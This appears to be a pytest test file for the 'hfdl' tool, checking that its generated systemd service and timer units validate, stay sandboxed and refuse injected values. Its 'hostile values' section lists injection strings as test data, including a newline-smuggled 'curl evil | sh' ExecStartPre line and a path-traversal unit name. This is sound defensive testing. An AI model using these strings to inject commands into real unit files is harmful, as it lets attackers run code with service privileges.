"""The systemd units hfdl renders: systemd's own tools accept them, they are sandboxed, they
fire when the schedule says, and no value can add a line to them.

``systemd-analyze verify``, ``security --offline=true`` and ``calendar`` need no running
manager, so these tests run everywhere systemd is installed (CI installs it).
"""

from __future__ import annotations

import dataclasses
import os
import subprocess
import sys
import tomllib
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from datetime import time as dt_time
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from hfdl import __version__
from hfdl.config import Settings, load_settings
from hfdl.errors import InvalidSchedule, UnsafeUnitValue, UsageError
from hfdl.schedule import WEEKDAYS
from hfdl.store.rows import ScheduleRow
from hfdl.systemd import calendar
from hfdl.systemd.calendar import next_elapse, on_calendar, parse_calendar_output
from hfdl.systemd.units import (
    GENERATED_MARKER,
    SERVICE_TEMPLATE,
    TIMER_TEMPLATE,
    UnitFile,
    is_generated,
    quote_word,
    render_units,
    template_text,
    writable_paths,
)
from tests.tiers import requires_tools

REPO_ROOT = Path(__file__).resolve().parents[2]
# The venv's console script: `verify` checks that ExecStart's binary exists.
HFDL = Path(sys.executable).parent / "hfdl"
# Outside /tmp, as in production, so that the sandbox keeps PrivateTmp=yes.
SYSTEM_CONFIG = Path("/etc/hfdl/config.yaml")
needs_systemd_analyze = requires_tools("systemd-analyze")


def schedule(
    name: str = "nightly", kind: str = "daily", time: str = "23:00", **fields: object
) -> ScheduleRow:
    """A stored-looking schedule row, built directly (no database, no validation)."""
    now = datetime(2026, 11, 29, tzinfo=UTC)
    values: dict[str, object] = {
        "id": 1,
        "name": name,
        "type": kind,
        "time": time,
        "day": None,
        "enabled": True,
        "active": True,
        "concurrent_downloads": 2,
        "tags": (),
        "created_at": now,
        "updated_at": now,
    }
    values.update(fields)
    return ScheduleRow(**values)  # type: ignore[arg-type]


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    """Production-like settings: system paths, the shipped service section changed a bit."""
    config = tmp_path / "config.yaml"
    config.write_text(
        "download_directory: /var/cache/huggingface/hub\n"
        "state_directory: /var/lib/hfdl\n"
        "db_path: /var/lib/hfdl/hfdl.db\n"
        "models_file: /etc/hfdl/models.json\n"
        "service:\n"
        "  timeout_start_seconds: 43200\n"
        "  randomized_delay_seconds: 900\n"
        "  nice: 15\n"
    )
    return load_settings(config)


def render(
    settings: Settings,
    schedules: Sequence[ScheduleRow] = (),
    *,
    scope: str = "system",
    config_path: Path | None = SYSTEM_CONFIG,
    executable: Path = HFDL,
    token_credential: Path | None = None,
) -> dict[str, str]:
    """Render units; return their text by file name.

    The rows become Schedule values here, as ``hfdl start`` turns the stored rows into them:
    a row whose fields were never validated is refused there.
    """
    rows = list(schedules) or [schedule(), schedule("weekend", "weekly", "14:00", day="Fri")]
    units = render_units(
        [row.definition for row in rows],
        scope=scope,
        executable=executable,
        config_path=config_path,
        settings=settings,
        token_credential=token_credential,
    )
    return {unit.name: unit.content for unit in units}


def directives(text: str, key: str) -> list[str]:
    """The values of every ``key=`` line of a unit."""
    return [line.split("=", 1)[1] for line in text.splitlines() if line.startswith(f"{key}=")]


def install(units: dict[str, str], directory: Path, instances: Sequence[str]) -> list[Path]:
    """Write units into ``directory``, plus the template under each instance name (verify
    and security refuse a bare template); return the files to check."""
    directory.mkdir(parents=True, exist_ok=True)
    for name, content in units.items():
        (directory / name).write_text(content)
    paths = []
    for instance in instances:
        path = directory / f"hfdl-run@{instance}.service"
        path.write_text(units["hfdl-run@.service"])
        paths.append(path)
    paths.extend(directory / name for name in units if name.endswith(".timer"))
    return paths


def analyze(*arguments: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["systemd-analyze", *arguments],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env=dict(os.environ, SYSTEMD_COLORS="0", **(env or {})),
    )


# -- systemd accepts them ----------------------------------------------------------------------


@needs_systemd_analyze
@pytest.mark.parametrize("scope", ["system", "user"])
def test_every_rendered_unit_passes_systemd_analyze_verify(
    settings: Settings, tmp_path: Path, scope: str
) -> None:
    units = render(settings, scope=scope)
    files = install(units, tmp_path / "units", ["nightly", "weekend"])
    options: list[str] = []
    env = {}
    if scope == "user":
        runtime = tmp_path / "runtime"
        runtime.mkdir(mode=0o700)
        options = ["--user"]
        env = {"XDG_RUNTIME_DIR": str(runtime)}
    result = analyze(*options, "verify", *map(str, files), env=env)
    assert result.returncode == 0, result.stderr
    # verify reports problems it tolerates (unknown keys, missing targets) on stderr too.
    assert "hfdl" not in result.stderr, result.stderr


def test_system_service_sandbox_still_lets_the_run_write_its_directories(
    settings: Settings,
) -> None:
    service = render(settings)["hfdl-run@.service"]
    assert directives(service, "ProtectSystem") == ["strict"]
    assert directives(service, "ProtectHome") == ["yes"]
    assert directives(service, "PrivateTmp") == ["yes"]
    assert directives(service, "NoNewPrivileges") == ["yes"]
    assert directives(service, "RestrictAddressFamilies") == ["AF_UNIX AF_INET AF_INET6"]
    # /var/lib/hfdl (state and DB) is systemd's StateDirectory=; the cache is listed, with
    # "-" so a missing one does not fail the sandbox, and created first outside it.
    assert directives(service, "StateDirectory") == ["hfdl"]
    assert directives(service, "ReadWritePaths") == ['"-/var/cache/huggingface/hub"']
    create, *_handovers = directives(service, "ExecStartPre")
    assert create.startswith('+"') and create.endswith(
        ' -d -m 2750 -o hfdl -g hfdl -- "/var/cache/huggingface/hub"'
    )
    assert directives(service, "Wants") == directives(service, "After") == ["network-online.target"]


def test_writable_paths_cover_downloads_state_and_the_database_directory(
    settings: Settings,
) -> None:
    elsewhere = dataclasses.replace(
        settings,
        download_directory=Path("/srv/models/hub"),
        state_directory=Path("/srv/hfdl/state"),
        db_path=Path("/srv/hfdl/db/hfdl.db"),
    )
    assert writable_paths(elsewhere) == [
        Path("/srv/hfdl/db"),
        Path("/srv/hfdl/state"),
        Path("/srv/models/hub"),
    ]
    nested = dataclasses.replace(settings, download_directory=Path("/var/lib/hfdl/hub"))
    assert writable_paths(nested) == [Path("/var/lib/hfdl")]
    service = render(elsewhere)["hfdl-run@.service"]
    assert directives(service, "StateDirectory") == []
    assert len(directives(service, "ReadWritePaths")) == 3


def test_user_service_has_no_system_only_settings(settings: Settings) -> None:
    service = render(settings, scope="user", token_credential=Path("/etc/hfdl/hf_token"))[
        "hfdl-run@.service"
    ]
    for key in (
        "Wants",
        "After",
        "ProtectSystem",
        "ReadWritePaths",
        "LoadCredential",
        "EnvironmentFile",
    ):
        assert directives(service, key) == [], key
    assert directives(service, "NoNewPrivileges") == ["yes"]


def test_system_service_reads_the_packages_environment_file(settings: Settings) -> None:
    """/etc/default/hfdl (the .deb's conffile for HF_ENDPOINT and overrides), optional."""
    service = render(settings)["hfdl-run@.service"]

    assert directives(service, "EnvironmentFile") == ["-/etc/default/hfdl"]


def test_service_runs_hfdl_for_the_instance_with_settings_from_the_config(
    settings: Settings,
) -> None:
    service = render(settings)["hfdl-run@.service"]
    assert directives(service, "Type") == ["oneshot"]
    # A scheduled run waits for the run lock (half of TimeoutStartSec=) instead of exiting 75.
    assert directives(service, "ExecStart") == [
        f'"{HFDL}" --config "{SYSTEM_CONFIG}" run --schedule %i --wait --wait-timeout 21600'
    ]
    assert directives(service, "NotifyAccess") == ["main"]
    assert directives(service, "SyslogIdentifier") == ["hfdl"]
    assert directives(service, "TimeoutStartSec") == ["43200"]
    assert directives(service, "Nice") == ["15"]
    assert directives(service, "IOSchedulingClass") == ["best-effort"]
    without_config = render(settings, config_path=None)["hfdl-run@.service"]
    assert directives(without_config, "ExecStart") == [
        f'"{HFDL}" run --schedule %i --wait --wait-timeout 21600'
    ]


def test_token_is_a_credential_path_never_a_value(settings: Settings, tmp_path: Path) -> None:
    token_file = tmp_path / "hf_token"
    token_file.write_text("hf_SECRETSECRETSECRET\n")
    service = render(settings, token_credential=token_file)["hfdl-run@.service"]
    assert directives(service, "LoadCredential") == [f"hf_token:{token_file}"]
    assert "hf_SECRET" not in service
    assert directives(render(settings)["hfdl-run@.service"], "LoadCredential") == []


def test_timers_fire_the_service_instance_on_the_schedule(settings: Settings) -> None:
    units = render(settings)
    assert list(units) == ["hfdl-run@.service", "hfdl-nightly.timer", "hfdl-weekend.timer"]
    nightly, weekend = units["hfdl-nightly.timer"], units["hfdl-weekend.timer"]
    assert directives(nightly, "OnCalendar") == ["*-*-* 23:00:00"]
    assert directives(weekend, "OnCalendar") == ["Fri *-*-* 14:00:00"]
    for name, timer in (("nightly", nightly), ("weekend", weekend)):
        assert directives(timer, "Persistent") == ["true"]
        assert directives(timer, "RandomizedDelaySec") == ["900"]
        # Drawn once per timer, not again at every daemon-reload (each `hfdl start`).
        assert directives(timer, "FixedRandomDelay") == ["yes"]
        assert directives(timer, "Unit") == [f"hfdl-run@{name}.service"]
        assert directives(timer, "WantedBy") == ["timers.target"]


@pytest.mark.parametrize("scope", ["system", "user"])
def test_stop_is_clean_and_only_temporary_failures_are_restarted(
    settings: Settings, scope: str
) -> None:
    service = render(settings, scope=scope)["hfdl-run@.service"]
    # Type=oneshot counts no signal as clean unless listed: a stop ends with Result=success.
    assert directives(service, "SuccessExitStatus") == ["SIGTERM SIGINT"]
    assert directives(service, "Restart") == ["on-failure"]
    assert directives(service, "RestartSec") == ["600"]
    prevented = directives(service, "RestartPreventExitStatus")[0].split()
    # Permanent failures are never retried; 75 (temporary failure) always is.
    assert {"1", "65", "66", "69", "73", "78"} <= set(prevented)
    assert "75" not in prevented
    # Bounded: 6 restarts after the first start, within a window shorter than a day.
    assert directives(service, "StartLimitBurst") == ["7"]
    [interval] = directives(service, "StartLimitIntervalSec")
    assert 6 * 600 <= int(interval) < 24 * 3600
    unit_section = service.split("[Service]")[0]
    assert "StartLimitBurst=" in unit_section


def test_restart_settings_come_from_the_service_section(settings: Settings) -> None:
    quick = dataclasses.replace(
        settings,
        service=dataclasses.replace(settings.service, retry_delay_seconds=2, retry_attempts=1),
    )
    service = render(quick)["hfdl-run@.service"]
    assert directives(service, "RestartSec") == ["2"]
    assert directives(service, "StartLimitBurst") == ["2"]
    never = dataclasses.replace(
        settings, service=dataclasses.replace(settings.service, retry_attempts=0)
    )
    service = render(never)["hfdl-run@.service"]
    for key in ("Restart", "RestartSec", "StartLimitBurst", "StartLimitIntervalSec"):
        assert directives(service, key) == [], key
    assert directives(service, "SuccessExitStatus") == ["SIGTERM SIGINT"]


# -- generated-file header ---------------------------------------------------------------------


def test_every_file_starts_with_the_generated_header_and_marker(settings: Settings) -> None:
    units = render(settings)
    for name, content in units.items():
        first, second = content.splitlines()[:2]
        template = SERVICE_TEMPLATE if name.endswith(".service") else TIMER_TEMPLATE
        assert first.startswith(f"# Generated by hfdl {__version__} from {template} for ")
        assert first.endswith("— do not edit; changes are overwritten by hfdl start.")
        assert second == GENERATED_MARKER
        assert is_generated(content)
    assert "for schedule nightly —" in units["hfdl-nightly.timer"].splitlines()[0]


def test_is_generated_rejects_hand_written_units() -> None:
    assert not is_generated("[Unit]\nDescription=mine\n")
    assert not is_generated("# X-hfdl-generated: 0\n[Unit]\n")
    # The marker counts only in the header, not buried in someone's file.
    assert not is_generated("\n" * 10 + GENERATED_MARKER + "\n")
    assert is_generated(f"# Generated by hfdl\n{GENERATED_MARKER}\n")


# -- calendar ----------------------------------------------------------------------------------


def test_on_calendar_of_daily_and_weekly_schedules() -> None:
    assert on_calendar(schedule(time="02:00").definition) == "*-*-* 02:00:00"
    weekly = schedule(kind="weekly", time="14:00", day="Fri").definition
    assert on_calendar(weekly) == "Fri *-*-* 14:00:00"
    for day in WEEKDAYS:
        assert on_calendar(schedule(kind="weekly", day=day).definition) == f"{day} *-*-* 23:00:00"


@pytest.mark.parametrize(
    "row",
    [
        schedule(time="2:00"),
        schedule(time="24:00"),
        schedule(time="02:00\nUnit=evil.service"),
        schedule(kind="weekly", day=None),
        schedule(kind="weekly", day="Fri\n"),
        schedule(kind="hourly"),
    ],
)
def test_fields_that_were_not_validated_never_reach_on_calendar(row: ScheduleRow) -> None:
    # on_calendar takes a Schedule; a stored row becomes one only if its fields are valid.
    with pytest.raises(InvalidSchedule):
        on_calendar(row.definition)


@needs_systemd_analyze
def test_on_calendar_is_systemds_normalized_form() -> None:
    for row in (schedule(time="00:00"), schedule(kind="weekly", time="09:05", day="Sun")):
        result = analyze("calendar", on_calendar(row.definition))
        assert result.returncode == 0, result.stderr
        assert f"Normalized form: {on_calendar(row.definition)}" in result.stdout


def expected_next(
    base: datetime, zone: str, hour: int, minute: int, weekday: int | None
) -> datetime:
    """The next local HH:MM (on ``weekday``, Monday = 0) strictly after ``base``, in UTC,
    computed with zoneinfo: an independent check of what systemd-analyze answers."""
    local_zone = ZoneInfo(zone)
    local = base.astimezone(local_zone)
    for offset in range(8):
        day = local.date() + timedelta(days=offset)
        candidate = datetime.combine(day, dt_time(hour, minute), tzinfo=local_zone)
        if candidate > local and (weekday is None or candidate.weekday() == weekday):
            return candidate.astimezone(UTC)
    raise AssertionError("no elapse within a week")


@needs_systemd_analyze
@pytest.mark.parametrize("zone", ["UTC", "Europe/Berlin", "America/New_York", "Asia/Kolkata"])
def test_next_elapse_matches_systemd_calendar_in_any_time_zone(
    monkeypatch: pytest.MonkeyPatch, zone: str
) -> None:
    # systemd-analyze prints local times plus "(in UTC)" lines outside UTC: both forms parse.
    monkeypatch.setenv("TZ", zone)
    base = datetime(2026, 7, 15, 12, 30, tzinfo=UTC)  # a Wednesday, summer time
    daily = schedule(time="02:00").definition
    weekly = schedule(kind="weekly", time="14:00", day="Fri").definition
    assert next_elapse(on_calendar(daily), base) == expected_next(base, zone, 2, 0, None)
    assert next_elapse(on_calendar(weekly), base) == expected_next(base, zone, 14, 0, 4)
    elapses = calendar.upcoming_elapses(on_calendar(daily), count=3, now=base)
    assert elapses is not None and len(elapses) == 3
    assert elapses[1] - elapses[0] == elapses[2] - elapses[1] == timedelta(days=1)


@needs_systemd_analyze
def test_next_elapse_without_a_base_time_is_in_the_future() -> None:
    moment = next_elapse("*-*-* 02:00:00")
    assert moment is not None and moment.tzinfo is not None
    assert datetime.now(UTC) < moment <= datetime.now(UTC) + timedelta(days=1, minutes=1)


def test_next_elapse_is_none_without_systemd_analyze(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(calendar, "SYSTEMD_ANALYZE", "/nonexistent/systemd-analyze")
    assert next_elapse("*-*-* 02:00:00") is None


def test_calendar_output_parsing() -> None:
    assert parse_calendar_output("  Original form: 2020-01-01\n    Next elapse: never\n") == []
    text = (
        "Normalized form: *-*-* 02:00:00\n"
        "    Next elapse: Mon 2026-11-30 02:00:00 CET\n"
        "       (in UTC): Mon 2026-11-30 01:00:00 UTC\n"
        "       From now: 23h left\n"
        "       Iter. #2: Tue 2026-12-01 02:00:00 CET\n"
        "       (in UTC): Tue 2026-12-01 01:00:00 UTC\n"
    )
    assert parse_calendar_output(text) == [
        datetime(2026, 11, 30, 1, tzinfo=UTC),
        datetime(2026, 12, 1, 1, tzinfo=UTC),
    ]


# -- hostile values ----------------------------------------------------------------------------

HOSTILE_TEXT = [
    "x\nExecStartPre=/bin/sh -c 'curl evil | sh'",
    "x\rExecStartPre=/bin/evil",
    "x\x00y",
    "x\x85y",  # NEL
    "x\u2028y",  # line separator
    "x\u202ey",  # right-to-left override
    "a=b",
    "trailing\\",
]


@pytest.mark.parametrize("hostile", HOSTILE_TEXT)
def test_the_template_environment_refuses_hostile_values(hostile: str) -> None:
    """Bypass every validation: render the templates directly with a hostile value."""
    from hfdl.systemd.units import template_environment

    timer = template_environment().get_template(TIMER_TEMPLATE)
    values = {
        "version": __version__,
        "marker": GENERATED_MARKER,
        "template_name": TIMER_TEMPLATE,
        "name": "nightly",
        "summary": "daily at 02:00",
        "on_calendar": "*-*-* 02:00:00",
        "randomized_delay_seconds": 0,
        "service_name": "hfdl-run@nightly.service",
    }
    for key in ("name", "summary", "on_calendar", "service_name", "randomized_delay_seconds"):
        with pytest.raises(UnsafeUnitValue):
            timer.render(values | {key: hostile})
    assert timer.render(values)  # the untouched values render


@pytest.mark.parametrize("hostile", HOSTILE_TEXT)
def test_render_units_refuses_hostile_schedule_fields(settings: Settings, hostile: str) -> None:
    for row in (
        schedule(name=hostile),
        schedule(time=hostile),
        schedule(kind="weekly", day=hostile),
        schedule(kind=hostile),
    ):
        with pytest.raises((InvalidSchedule, UnsafeUnitValue)):
            render(settings, [row])


@pytest.mark.parametrize("hostile", HOSTILE_TEXT)
def test_render_units_refuses_hostile_paths(settings: Settings, hostile: str) -> None:
    with pytest.raises(UnsafeUnitValue):
        render(settings, config_path=Path("/etc/hfdl") / hostile)
    with pytest.raises(UnsafeUnitValue):
        render(settings, executable=Path("/opt") / hostile / "hfdl")
    with pytest.raises(UnsafeUnitValue):
        render(settings, token_credential=Path("/etc/hfdl") / hostile)
    for key in ("download_directory", "state_directory"):
        changed = dataclasses.replace(settings, **{key: Path("/srv") / hostile})
        with pytest.raises(UnsafeUnitValue):
            render(changed)


def test_render_units_refuses_unsafe_unit_file_names(settings: Settings) -> None:
    for name in ("../../etc/evil", "a/b", "UPPER", "with space", ".hidden", "x" * 33):
        with pytest.raises(InvalidSchedule):
            render(settings, [schedule(name=name)])


def test_render_units_refuses_relative_paths_and_unknown_scopes(settings: Settings) -> None:
    with pytest.raises(UsageError):
        render(settings, config_path=Path("config.yaml"))
    with pytest.raises(UsageError):
        render(settings, executable=Path("hfdl"))
    with pytest.raises(UsageError):
        render(settings, token_credential=Path("hf_token"))
    with pytest.raises(UsageError):
        render(settings, scope="session")


# -- quoting -----------------------------------------------------------------------------------


def test_quote_word_follows_systemds_rules() -> None:
    assert quote_word("/srv/my models", expand_environment=False) == '"/srv/my models"'
    assert quote_word('/a "b"\\c', expand_environment=False) == '"/a \\"b\\"\\\\c"'
    assert quote_word("/100%/$HOME", expand_environment=False) == '"/100%%/$HOME"'
    assert quote_word("/100%/$HOME", expand_environment=True) == '"/100%%/$$HOME"'


def test_paths_with_spaces_are_quoted(settings: Settings, tmp_path: Path) -> None:
    config = tmp_path / "my config 100% $dollar.yaml"
    spaced = dataclasses.replace(settings, download_directory=Path("/srv/my models/hub"))
    service = render(spaced, config_path=config)["hfdl-run@.service"]
    quoted_config = str(config).replace("%", "%%").replace("$", "$$")
    assert directives(service, "ExecStart") == [
        f'"{HFDL}" --config "{quoted_config}" run --schedule %i --wait --wait-timeout 21600'
    ]
    assert '"-/srv/my models/hub"' in directives(service, "ReadWritePaths")
    # A configuration under /tmp would vanish behind PrivateTmp=: keep the real /tmp then.
    assert directives(service, "PrivateTmp") == []


@needs_systemd_analyze
def test_systemd_reads_quoted_paths_back_exactly(settings: Settings, tmp_path: Path) -> None:
    """systemd-analyze verify resolves ExecStart's executable: one in a directory whose name
    has spaces and '%' is found, and a missing one is reported with its exact path."""
    odd_directory = tmp_path / "bin dir 100% done"
    odd_directory.mkdir()
    executable = odd_directory / "hfdl"
    executable.symlink_to(HFDL)
    spaced = dataclasses.replace(settings, download_directory=Path("/srv/my models/hub"))
    units = render(spaced, executable=executable, config_path=tmp_path / "a b.yaml")
    files = install(units, tmp_path / "units", ["nightly"])
    result = analyze("verify", *map(str, files))
    assert result.returncode == 0, result.stderr

    executable.unlink()
    result = analyze("verify", *map(str, files))
    assert f"Command {executable} is not executable" in result.stderr, result.stderr


# -- packaging ---------------------------------------------------------------------------------


def test_templates_live_in_units_and_ship_inside_the_package() -> None:
    for name in (SERVICE_TEMPLATE, TIMER_TEMPLATE):
        assert (REPO_ROOT / "units" / name).is_file()
        assert template_text(name) == (REPO_ROOT / "units" / name).read_text()
    pyproject = tomllib.loads((REPO_ROOT / "pyproject.toml").read_text())
    force_include = pyproject["tool"]["hatch"]["build"]["targets"]["wheel"]["force-include"]
    assert force_include == {"units": "hfdl/units"}


def test_unit_file_is_a_plain_record() -> None:
    unit = UnitFile("hfdl-x.timer", "text")
    assert (unit.name, unit.content) == ("hfdl-x.timer", "text")
